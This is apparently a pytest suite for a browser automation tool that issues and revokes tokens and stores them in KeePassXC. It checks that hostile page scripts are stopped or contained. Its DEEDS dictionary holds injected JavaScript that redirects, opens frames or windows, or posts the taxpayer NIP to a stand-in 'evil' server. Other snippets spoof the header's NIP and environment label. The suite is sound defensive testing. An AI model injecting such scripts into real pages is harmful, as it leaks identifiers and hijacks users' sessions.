"""Before the order anything foreign stops the run; behind the curtain nothing foreign may cost the token."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Iterator

import pytest

from automation.ap.app import Ap
from automation.errors import (
    AssistantError,
    Exit,
    TokenUnconfirmedError,
    WrongContextShownError,
    WrongEnvironmentShownError,
    WrongOriginError,
)
from flows.generate import generate_token
from flows.revoke import revoke_token
from tests.ap.hostile_server import WebServer
from tests.flows.conftest import NIP, Bench
from tests.vault.judge import KeePassXc

pytestmark = [pytest.mark.browser, pytest.mark.keepassxc]

Benches = Callable[..., Bench]

DEEDS = {
    "location": "location.href = evil",
    "form-post": """document.body.insertAdjacentHTML("beforeend", `<form method=post id=f action=${evil}></form>`);
      const field = document.createElement("input");
      field.name = "nip";
      field.value = document.querySelector("header button:last-of-type")?.textContent ?? "";
      document.getElementById("f").append(field);
      document.getElementById("f").submit()""",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: evil }))",
    "frame-past-the-gate": """document.body.append(Object.assign(document.createElement("iframe"),
      { sandbox: "allow-scripts", srcdoc: `<iframe src=${evil}></iframe>` }))""",
    "window": "open(evil)",
}
BEFORE = {
    "login": "Krok 1: identyfikator podmiotu",
    "after-login": "Krok 1: stan po zalogowaniu",
    "form": "Krok 3: nazwa tokena",
    "press": "Krok 3: naciśnięcie",
}
CURTAIN = {"waiting": "Krok 4, zadanie 1", "shown": "Krok 4, zadanie 2: Kopiuj"}
OTHER_NIP = """for (const text of document.querySelectorAll("header *"))
  if (text.childElementCount === 0) text.textContent = text.textContent.replace("1234563218", "5265877635")"""
OTHER_LABEL = """document.querySelector("header strong").textContent = "Środowisko Demonstracyjne" """


@pytest.fixture
def evil() -> Iterator[WebServer]:
    """A stranger's server."""
    with WebServer().running() as server:
        yield server


def meddle(b: Bench, title: str, script: str, evil: WebServer | None = None) -> None:
    """Have the page do something when a step begins."""
    on_step = b.run.on_step
    done: list[str] = []
    address = f"http://localhost:{evil.port}/" if evil else ""

    def do_it_then(step: str) -> None:
        on_step(step)
        if step.startswith(title) and not done:
            done.append(step)
            b.page.evaluate(f"(evil) => {{ {script} }}", address)
            b.page.wait_for_timeout(300)

    b.run.on_step = do_it_then


def must_stop(b: Bench, judge: KeePassXc, error: type[AssistantError]) -> AssistantError:
    """Exit 9; AP got no order, and the database has no entry."""
    with pytest.raises(error) as caught:
        b.generate()
    assert caught.value.exit is Exit.POLICY
    assert not b.audit.token_posts
    assert not any("KSeF" in path for path in b.entries(judge))
    return caught.value


@pytest.mark.usually(4)
@pytest.mark.parametrize(
    ("moment", "deed"),
    [
        ("login", "location"),
        ("login", "frame"),
        ("after-login", "window"),
        ("form", "form-post"),
        ("press", "location"),
        ("press", "frame-past-the-gate"),
        ("press", "window"),
    ],
)
def test_anything_foreign_before_the_order_stops_the_run(
    bench: Benches, judge: KeePassXc, evil: WebServer, moment: str, deed: str
) -> None:
    """At the login, after it, on the form and right before the press: nothing typed, nothing ordered."""
    b = bench(strict_csp=False)
    meddle(b, BEFORE[moment], DEEDS[deed], evil)
    error = must_stop(b, judge, WrongOriginError)
    assert str(evil.port) in str(error.details["origin"])
    assert evil.felt == []
    assert not evil.was_told(NIP)


@pytest.mark.usually(2)
@pytest.mark.parametrize("moment", ["Krok 3: sprawdzenie", "Krok 3: naciśnięcie"])
@pytest.mark.parametrize(
    ("script", "error"),
    [(OTHER_NIP, WrongContextShownError), (OTHER_LABEL, WrongEnvironmentShownError)],
    ids=["context", "environment"],
)
def test_context_and_environment_are_proven_again_right_before_the_press(
    bench: Benches, judge: KeePassXc, script: str, error: type[AssistantError], moment: str
) -> None:
    """What another window may have changed since the login is noticed before anything is ordered."""
    b = bench()
    local = dataclasses.replace(b.order.environment, header_label="Środowisko Testowe")
    b.ap = Ap(b.page, local, timeout=5, still_wanted=b.run.interruption.check)
    b.run.on_step = b.ap.begin_step
    meddle(b, moment, script)
    must_stop(b, judge, error)


def test_another_context_is_not_revoked_in(bench: Benches) -> None:
    """The same proof right before a token is ticked for revocation."""
    b = bench()
    receipt = b.generate()
    b.page.context.clear_cookies()
    meddle(b, "Unieważnienie: ", OTHER_NIP)
    marked: list[str] = []
    with pytest.raises(WrongContextShownError):
        revoke_token(b.run, b.ap, b.order.identity, receipt.reference_number, lambda: marked.append("marked"))
    assert not marked
    assert not b.audit.revocations


@pytest.mark.usually(3)
@pytest.mark.parametrize(
    ("moment", "deed"),
    [
        ("waiting", "location"),
        ("waiting", "form-post"),
        ("waiting", "frame"),
        ("waiting", "frame-past-the-gate"),
        ("waiting", "window"),
        ("shown", "location"),
        ("shown", "window"),
    ],
)
def test_nothing_foreign_costs_a_token_that_was_ordered(
    bench: Benches, judge: KeePassXc, evil: WebServer, moment: str, deed: str
) -> None:
    """It is kept out or closed, the token is stored, and one warning names the stranger."""
    b = bench(escrow=False, strict_csp=False)
    meddle(b, CURTAIN[moment], DEEDS[deed], evil)
    b.generate()
    (issued,) = b.audit.issued.values()
    assert b.stored(judge) == issued.value
    assert len(b.run.warnings) == 1
    assert str(evil.port) in b.run.warnings[0]
    assert b.page.context.pages == [b.page]
    assert evil.felt == []
    assert not evil.was_told(NIP)


def test_a_page_lost_behind_the_curtain_is_told_as_a_token_at_stake(bench: Benches, judge: KeePassXc) -> None:
    """AP's page itself goes: exit 8, and the token from AP's answer is in the database."""
    b = bench(refreshes_needed=2)
    meddle(b, "Krok 4, zadanie 1", "location = 'about:blank'")
    with pytest.raises(TokenUnconfirmedError) as caught:
        generate_token(b.run, b.ap, b.vault, b.order)
    assert caught.value.exit is Exit.TOKEN_NOT_SAFE
    (issued,) = b.audit.issued.values()
    assert b.stored(judge) == issued.value
